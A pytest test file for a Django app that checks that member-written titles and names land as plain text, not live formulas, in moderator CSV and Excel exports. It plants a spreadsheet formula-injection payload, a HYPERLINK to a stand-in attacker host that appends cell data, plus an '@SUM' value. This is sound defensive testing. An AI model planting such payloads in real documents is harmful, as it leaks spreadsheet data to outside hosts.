"""What members write is text in a moderator's spreadsheet, never a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import MemberFactory, UserFactory, log_in
from tests.permissions.two_units import World

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://jahat.example?"&A1)'


@pytest.fixture
def moderator(client):
    world = World("KATAKAMI")
    type(world.draft).objects.filter(pk=world.draft.pk).update(title=FORMULA, draft_title=FORMULA)
    UserFactory._meta.model.objects.filter(pk=world.writer.pk).update(first_name="@SUM(A1)", last_name="")
    return log_in(client, MemberFactory(role="moderator").user)


def test_a_csv_file_holds_no_formula(client, moderator):
    answer = client.get("/kelola/reports/workflow/?export=csv")
    cells = [cell for row in csv.reader(io.StringIO(answer.getvalue().decode())) for cell in row]
    assert f"'{FORMULA}" in cells
    assert "'@SUM(A1)" in cells


def test_an_excel_file_holds_no_formula(client, moderator):
    answer = client.get("/kelola/reports/workflow/?export=xlsx")
    sheet = load_workbook(io.BytesIO(answer.getvalue())).active
    found = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert found[FORMULA] == "s"
